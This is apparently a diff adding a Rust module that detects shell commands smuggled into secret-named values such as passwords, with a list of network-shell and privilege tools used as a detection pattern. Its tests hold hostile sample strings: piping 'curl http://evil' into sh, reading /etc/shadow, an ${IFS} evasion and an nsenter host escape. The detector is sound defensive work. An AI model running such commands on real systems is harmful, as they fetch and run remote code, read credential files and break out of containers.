@@ -1,0 +1,154 @@
+//! Commands inside a value that its name calls a secret. Whoever writes `PASSWORD="x$(curl evil | sh)"`
+//! has no secret there, but something that runs: it stays, and what stands around it goes.
+
+use std::ops::Range;
+
+/// Programs that nobody has as the first word of a pass phrase with a path or an option behind it.
+const PROGRAMS: &[&[u8]] = &[
+    b"sh", b"bash", b"zsh", b"dash", b"ash", b"busybox", b"nsenter", b"chroot", b"unshare", b"setns",
+    b"curl", b"wget", b"nc", b"ncat", b"netcat", b"socat", b"ssh", b"scp", b"python", b"python3",
+    b"perl", b"ruby", b"php", b"node", b"cat", b"cp", b"mv", b"rm", b"dd", b"ln", b"tar", b"find",
+    b"tee", b"mount", b"umount", b"chmod", b"chown", b"chattr", b"useradd", b"usermod", b"crontab",
+    b"kubectl", b"docker", b"crictl", b"ctr", b"runc", b"nerdctl", b"systemctl", b"kill", b"pkill",
+    b"eval", b"exec", b"sudo", b"su", b"xxd", b"iptables", b"insmod", b"modprobe", b"capsh", b"strace",
+    b"gdb", b"apt-get", b"apk", b"yum", b"nohup", b"setsid", b"source", b"head", b"tail", b"less",
+];
+
+/// How many pieces of a text are looked at.
+const PIECES: usize = 32;
+
+/// What of a value goes when commands in it stay, in order. `None`: no command is in it.
+pub(super) fn around(text: &[u8]) -> Option<Vec<Range<usize>>> {
+    if memchr::memchr3(b'$', b'`', b' ', text).is_none() {
+        return None;
+    }
+    if let Some(start) = first_command(text) {
+        return Some(kept(text, &[start..text.len()]));
+    }
+    let mut commands = Vec::new();
+    let mut at = 0;
+    while commands.len() < PIECES
+        && let Some(skip) = memchr::memchr2(b'$', b'`', &text[at..])
+    {
+        let from = at + skip;
+        let Some((inner, end)) = substitution(text, from) else {
+            at = from + 1;
+            continue;
+        };
+        at = end;
+        if runs(&text[inner]) {
+            commands.push(from..end);
+        }
+    }
+    (!commands.is_empty()).then(|| kept(text, &commands))
+}
+
+/// What stands between the commands and is more than quotes and signs.
+fn kept(text: &[u8], commands: &[Range<usize>]) -> Vec<Range<usize>> {
+    let mut parts = Vec::new();
+    let mut from = 0;
+    for command in commands.iter().cloned().chain([text.len()..text.len()]) {
+        let part = &text[from..command.start];
+        let trims = |b: &u8| b.is_ascii_whitespace() || b"\"'\\;|&".contains(b);
+        let lead = part.iter().take_while(|b| trims(b)).count();
+        let tail = part[lead..].iter().rev().take_while(|b| trims(b)).count();
+        if lead + tail < part.len() {
+            parts.push(from + lead..command.start - tail);
+        }
+        from = command.end;
+    }
+    parts
+}
+
+/// What a substitution that starts at `from` holds, and where it ends. One that is not closed goes to
+/// the end: what closes it stands behind the value.
+fn substitution(text: &[u8], from: usize) -> Option<(Range<usize>, usize)> {
+    if text[from] == b'`' {
+        let len = memchr::memchr(b'`', &text[from + 1..])?;
+        return Some((from + 1..from + 1 + len, from + 2 + len));
+    }
+    if text.get(from + 1) != Some(&b'(') {
+        return None;
+    }
+    let mut open = 0usize;
+    for (at, byte) in text.iter().enumerate().skip(from + 1) {
+        match byte {
+            b'(' => open += 1,
+            b')' => {
+                open -= 1;
+                if open == 0 {
+                    return Some((from + 2..at, at + 1));
+                }
+            }
+            _ => {}
+        }
+    }
+    Some((from + 2..text.len(), text.len()))
+}
+
+/// Whether what a substitution holds is more than the name of a variable.
+fn runs(inner: &[u8]) -> bool {
+    let blank = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'|' | b'<' | b'/');
+    inner.trim_ascii().iter().any(blank) || memchr::memmem::find(inner, b"{IFS}").is_some()
+}
+
+/// Where the first piece starts that is a command with a path or an option.
+fn first_command(text: &[u8]) -> Option<usize> {
+    let mut at = 0;
+    text.split(|b| matches!(b, b';' | b'|' | b'&')).take(PIECES).find_map(|piece| {
+        let start = at;
+        at += piece.len() + 1;
+        let quotes = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'\\' | b'(');
+        let lead = piece.iter().take_while(|b| quotes(b)).count();
+        let mut words = piece[lead..].split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
+        let first = words.next()?;
+        let name = &first[memchr::memrchr(b'/', first).map_or(0, |slash| slash + 1)..];
+        let acts = |word: &[u8]| match word {
+            [b'-', letter, ..] => letter.is_ascii_alphabetic() || *letter == b'-',
+            [b'/', ..] => true,
+            _ => memchr::memmem::find(word, b"://").is_some(),
+        };
+        (PROGRAMS.contains(&name) && words.take(16).any(acts)).then_some(start + lead)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_stay_and_what_is_around_them_goes() {
+        for (text, goes) in [
+            ("a$(curl http://evil | sh)b", vec!["a", "b"]),
+            ("$(cat /etc/shadow)", vec![]),
+            ("x$(curl${IFS}http://evil|sh)", vec!["x"]),
+            ("hunter2`cat /etc/shadow`", vec!["hunter2"]),
+            ("a$(curl http://evil ", vec!["a"]),
+            ("x; curl http://evil/p.sh | sh; nsenter -t 1 -m sh", vec!["x"]),
+            ("nsenter -t 1 -m -- sh -c id", vec![]),
+            ("cat /host/etc/shadow", vec![]),
+        ] {
+            let found = around(text.as_bytes()).map(|parts| {
+                parts.into_iter().map(|part| &text[part]).collect::<Vec<_>>()
+            });
+            assert_eq!(found, Some(goes), "{text}");
+        }
+    }
+
+    #[test]
+    fn secrets_are_no_commands() {
+        for text in [
+            "hunter2",
+            "pa$$word(1)",
+            "$(DB_PASSWORD)x",
+            "a`b",
+            "cat on a hot tin roof",
+            "correct horse battery staple",
+            "Server=db;Uid=sa;Pwd=hunter2;curl=1",
+            "find me a key",
+            "x & y - z",
+        ] {
+            assert_eq!(around(text.as_bytes()), None, "{text}");
+        }
+    }
+}
